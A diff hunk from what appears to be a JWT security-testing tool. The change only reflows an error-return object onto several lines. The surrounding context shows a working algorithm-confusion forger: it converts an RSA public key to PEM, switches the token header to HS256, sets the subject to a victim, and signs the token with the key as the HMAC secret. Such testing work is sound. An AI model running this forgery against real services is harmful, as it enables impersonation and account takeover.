@@ -20,7 +20,11 @@ export const forgeAlgorithmConfusion: Forger = async ({ step, own }) => {
   try {
     pem = await pemOfPublicJwk(rsa);
   } catch (e) {
-    return { step, exchanges: fetched.exchanges, result: forgeFailed(step, `The RSA key could not be read: ${e instanceof Error ? e.message : String(e)}`).result };
+    return {
+      step,
+      exchanges: fetched.exchanges,
+      result: forgeFailed(step, `The RSA key could not be read: ${e instanceof Error ? e.message : String(e)}`).result,
+    };
   }
   const header = patched(read.value.header, { alg: 'HS256', kid: typeof rsa.kid === 'string' ? rsa.kid : undefined });
   const token = await hs256Token({ header, payload: patched(read.value.payload, { sub: VICTIM }) }, new TextEncoder().encode(pem));
